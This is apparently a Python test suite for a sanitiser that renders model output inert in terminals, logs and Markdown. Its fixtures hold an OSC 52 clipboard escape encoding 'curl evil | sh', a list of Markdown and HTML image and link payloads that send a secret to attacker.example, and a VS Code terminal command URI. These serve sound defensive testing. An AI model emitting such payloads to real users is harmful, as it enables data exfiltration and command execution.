"""What the model writes is shown as text: no control codes in terminals and logs, nothing active in Markdown."""

from __future__ import annotations

import io
import logging
import re

from hypothesis import given
from hypothesis import strategies as st

from gptls.privacy import protect
from gptls.text.shown import code_block, markdown_text, plain

OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"


def test_escape_sequences_are_made_visible() -> None:
    shown = plain(f"O(n){OSC52} and \x9b31m red \x7f")
    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown and "\x7f" not in shown
    assert "\\x1b]52;c;" in shown
    assert plain("a\tb\nc\r\nd") == "a\tb\nc\r\nd"
    assert plain("over\rwrite") == "over\\x0dwrite"


@given(st.text())
def test_no_control_character_survives(text: str) -> None:
    assert not re.search(r"[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f]", plain(text))


def test_log_lines_carry_no_escape_sequences() -> None:
    stream = io.StringIO()
    handler = protect(logging.StreamHandler(stream))
    logger = logging.getLogger("gptls.test.shown")
    logger.addHandler(handler)
    try:
        logger.warning("the model said %s", OSC52)
    finally:
        logger.removeHandler(handler)
    assert "\x1b" not in stream.getvalue() and "\\x1b]52" in stream.getvalue()


ATTACKS = [
    "![x](https://attacker.example/img?d=SECRET)",
    "[click](https://attacker.example/)",
    "<img src=https://attacker.example/a.png>",
    "<https://attacker.example/auto>",
    "see https://attacker.example/bare and www.attacker.example",
    "[ref]\n\n[ref]: https://attacker.example/r",
    "![a][b]\n\n[b]: https://attacker.example/i.png",
    "`unclosed ![x](https://attacker.example/u)",
    "``` \n![x](https://attacker.example/in-fence)\n",
    "<details><summary>x</summary><iframe src=https://attacker.example></iframe></details>",
    "&lt;img src=x&gt; &#x3C;img&#x3E;",
    "[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%22%7D)",
    "\\![x](https://attacker.example/escaped)",
]


def _active(markdown: str) -> list[str]:
    """What a CommonMark renderer could turn into an image, a link or HTML, outside code: unescaped [ or <,
    and a URL not inside a code span or block."""
    outside = re.sub(r"(?ms)^(`{3,})[^\n]*\n.*?^\1[ \t]*$", "", markdown)
    outside = outside.replace("\\\\", "")  # an escaped backslash escapes nothing after it
    outside = re.sub(r"(?<!\\)(`+)(?!`).*?(?<!`)\1(?!`)", "", outside, flags=re.DOTALL)
    found = re.findall(r"(?<!\\)(?:\\\\)*[\[<]", outside)
    found += re.findall(r"(?i)(?:https?://|www\.)", outside)
    return found


def test_markdown_keeps_nothing_that_loads_links_or_renders_html() -> None:
    for attack in ATTACKS:
        rendered = markdown_text(attack)
        assert _active(rendered) == [], (attack, rendered)


@given(st.text(alphabet=st.sampled_from(list("![]()<>`\\ \nhttps:/x.&*_#~w"))))
def test_no_generated_markdown_is_active(text: str) -> None:
    assert _active(markdown_text(text)) == []


def test_code_stays_code_and_prose_reads_the_same() -> None:
    shown = markdown_text("Uses `dict[str, int]` and is **O(n)**.\n\n```python\nx = [1] < 2\n```\nDone.")
    assert "`dict[str, int]`" in shown and "**O(n)**" in shown
    assert "```\nx = [1] < 2\n```" in shown and shown.endswith("Done.")


def test_a_code_block_cannot_be_closed_from_inside() -> None:
    block = code_block("a\n````\n![x](https://attacker.example/i)")
    assert block.startswith("`````\n") and block.endswith("\n`````\n")
